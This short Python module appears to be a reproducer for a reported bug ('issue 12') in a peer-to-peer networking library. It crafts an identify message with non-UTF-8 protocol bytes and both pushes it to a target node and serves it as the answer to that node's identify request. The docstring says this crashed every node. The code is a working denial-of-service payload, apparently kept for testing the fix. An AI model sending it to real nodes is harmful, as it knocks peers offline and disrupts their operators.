"""The identify message that ended every node: ``protocols`` holding bytes that are not
UTF-8 (issue 12). Sent both ways an attacker can: pushed, and as the answer to the
victim's own identify request."""

from __future__ import annotations

import base64
from typing import Final

import trio

from p2pstack.compose import open_node
from p2pstack.host.netstream import NetStream
from p2pstack.multiaddr import Multiaddr
from p2pstack.protocols.identify import IDENTIFY_PROTOCOL, IDENTIFY_PUSH_PROTOCOL
from p2pstack.transports.tcp import tcp
from p2pstack.varint import length_prefixed

BAD_IDENTIFY: Final = base64.b64decode("GgpBYJafn2BgYGBg")
"""Field 3 (protocols), 10 bytes, not valid UTF-8."""
ANSWER_TIMEOUT: Final = 5.0


async def _answer_badly(stream: NetStream) -> None:
    await stream.send_all(length_prefixed(BAD_IDENTIFY))
    await stream.send_eof()


async def send_bad_identify(target: Multiaddr) -> None:
    """Connect from a fresh identity that answers the victim's identify with
    :data:`BAD_IDENTIFY`, push it as well, and wait until the victim ended the push stream."""
    async with open_node(protocols=[], transports=[tcp()]) as node:
        node.set_stream_handler(IDENTIFY_PROTOCOL, _answer_badly)
        stream = await node.new_stream(target, IDENTIFY_PUSH_PROTOCOL)
        try:
            await stream.send_all(length_prefixed(BAD_IDENTIFY))
            await stream.send_eof()
            with trio.move_on_after(ANSWER_TIMEOUT):
                try:
                    while await stream.receive_some(1024):
                        pass
                except (trio.BrokenResourceError, trio.ClosedResourceError):
                    pass
        finally:
            await stream.aclose()
